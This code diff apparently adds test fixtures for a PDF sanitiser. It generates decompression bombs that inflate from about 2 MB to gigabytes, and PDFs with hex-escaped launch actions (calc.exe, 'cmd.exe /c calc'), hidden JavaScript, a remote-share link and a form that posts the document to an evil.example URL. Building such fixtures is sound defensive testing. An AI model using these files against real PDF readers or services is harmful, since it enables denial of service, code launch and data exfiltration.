@@ -172,3 +172,121 @@ export function padStatementPdf(pdf: Uint8Array, totalBytes: number): Uint8Array
   const first = Math.max(0, totalBytes - pdf.length - 300);
   return new Uint8Array(build(Math.max(0, first + totalBytes - build(first).length)));
 }
+
+// ---- Hostile input II (issue 15): guard bypasses and active content the first scan missed.
+
+/** Adler-32 of `prefix` followed by `spaces` space characters (computed, never built: `spaces` is gigabytes). */
+function adlerWithSpaces(prefix: Buffer, spaces: number): number {
+  const MOD = 65521n;
+  let a = 1n;
+  let b = 0n;
+  for (const c of prefix) {
+    a = (a + BigInt(c)) % MOD;
+    b = (b + a) % MOD;
+  }
+  const n = BigInt(spaces);
+  b = (b + n * a + 32n * ((n * (n + 1n)) / 2n)) % MOD;
+  a = (a + 32n * n) % MOD;
+  return Number((b << 16n) | a);
+}
+
+/**
+ * A zlib stream of `text` followed by `inflatedMb` MB of spaces, about 1/1000 of that size: one 16 MB
+ * block of spaces is compressed once, ended with a full flush (so it refers to nothing before it) and
+ * repeated. A 2 GB payload is built in a tenth of a second and about 2 MB long.
+ */
+export function spaceBomb(inflatedMb: number, text = 'BT /F1 10 Tf 40 780 Td (x) Tj ET\n'): Buffer {
+  const head = Buffer.from(text, 'latin1');
+  const full = { finishFlush: zlib.constants.Z_FULL_FLUSH };
+  const first = zlib.deflateRawSync(head, full);
+  const block = zlib.deflateRawSync(Buffer.alloc(16 << 20, 0x20), { ...full, level: 9 });
+  const blocks = Math.ceil(inflatedMb / 16);
+  const trailer = Buffer.alloc(4);
+  trailer.writeUInt32BE(adlerWithSpaces(head, blocks * (16 << 20)) >>> 0);
+  return Buffer.concat([Buffer.from([0x78, 0xda]), first, ...Array<Buffer>(blocks).fill(block), Buffer.from([0x03, 0x00]), trailer]);
+}
+
+/**
+ * The issue's file: a one-page PDF of about 2 MB whose content stream says `/Subtype /Image` (the old
+ * guard skipped image streams) and inflates to `inflatedMb` MB. `filter` is the /Filter value as
+ * written, e.g. `/F#6cateDecode` (a hex-escaped name) or `[/FlateDecode]`.
+ */
+export function imageFlaggedBombPdf(opts: { inflatedMb?: number; filter?: string; subtype?: string } = {}): Uint8Array {
+  const packed = spaceBomb(opts.inflatedMb ?? 2048);
+  const o = basic();
+  o[3] = { body: `<< /Length ${packed.length} /Filter ${opts.filter ?? '/FlateDecode'} ${opts.subtype ?? '/Subtype /Image'} >>`, stream: packed };
+  return buildPdf(o);
+}
+
+/** A content stream deflated twice (`[/FlateDecode /FlateDecode]`): the outer layer is small, the inner one the bomb. */
+export function doubleFlateBombPdf(inflatedMb = 1024): Uint8Array {
+  const packed = zlib.deflateSync(spaceBomb(inflatedMb), { level: 9 });
+  const o = basic();
+  o[3] = { body: `<< /Length ${packed.length} /Filter [/FlateDecode /Fl] >>`, stream: packed };
+  return buildPdf(o);
+}
+
+/** The catalog opens with a launch action whose type name is hex-escaped (`/L#61unch`). */
+export const escapedLaunchPdf = () => buildPdf(basic('/OpenAction << /S /L#61unch /F (calc.exe) >>'));
+
+/** A page-level additional action (`/AA`) running JavaScript kept in a stream, its type name hex-escaped. */
+export function pageAaJavascriptPdf(): Uint8Array {
+  const js = enc('app.alert(1)');
+  return buildPdf([...basic('', '/AA << /O 6 0 R >>'), { body: '<< /S /J#61vaScript /JS 7 0 R >>' }, { body: `<< /Length ${js.length} >>`, stream: js }]);
+}
+
+/** A link to another file (`/GoToR`) opened with the document. */
+export const goToRPdf = () => buildPdf(basic('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>'));
+
+/** A form action that posts the document somewhere (`/SubmitForm`). */
+export const submitFormPdf = () => buildPdf(basic('/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >>'));
+
+/**
+ * A PDF 1.5 file with a cross-reference stream whose catalog's /OpenAction is object 6, a launch
+ * action stored compressed inside an object stream (object 7): invisible to a scan of the raw bytes.
+ */
+export function launchInObjectStreamPdf(): Uint8Array {
+  const c = content('Hello');
+  const parts: Buffer[] = [enc('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n')];
+  const offsets: number[] = [];
+  let at = parts[0].length;
+  const add = (body: string, stream?: Buffer) => {
+    offsets.push(at);
+    const chunk = Buffer.concat([enc(`${offsets.length} 0 obj\n${body}\n`), ...(stream ? [enc('stream\n'), stream, enc('\nendstream\n')] : []), enc('endobj\n')]);
+    parts.push(chunk);
+    at += chunk.length;
+  };
+  add('<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>');
+  add('<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
+  add('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>');
+  add(`<< /Length ${c.length} >>`, c);
+  add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
+  // Object 6 lives in the object stream (object 7).
+  const inner = '<< /Type /Action /S /Launch /F (cmd.exe) /P (/c calc) >>';
+  const header = '6 0 ';
+  const objstm = zlib.deflateSync(enc(header + inner));
+  offsets.push(-1); // 6: compressed
+  add(`<< /Type /ObjStm /N 1 /First ${header.length} /Length ${objstm.length} /Filter /FlateDecode >>`, objstm);
+  // Cross-reference stream (object 8): type 1 (offset) or type 2 (in object stream 7, index 0) rows.
+  const xrefAt = at;
+  const rows: Buffer[] = [Buffer.from([0, 0, 0, 0, 0, 0xff])];
+  offsets.forEach((o, i) => {
+    const r = Buffer.alloc(6);
+    if (i === 5) {
+      r[0] = 2;
+      r.writeUInt32BE(7, 1);
+      r[5] = 0;
+    } else {
+      r[0] = 1;
+      r.writeUInt32BE(o, 1);
+    }
+    rows.push(r);
+  });
+  const xrow = Buffer.alloc(6);
+  xrow[0] = 1;
+  xrow.writeUInt32BE(xrefAt, 1);
+  rows.push(xrow);
+  const xdata = zlib.deflateSync(Buffer.concat(rows));
+  parts.push(enc(`8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 1] /Root 1 0 R /Length ${xdata.length} /Filter /FlateDecode >>\nstream\n`), xdata, enc(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`));
+  return new Uint8Array(Buffer.concat(parts));
+}
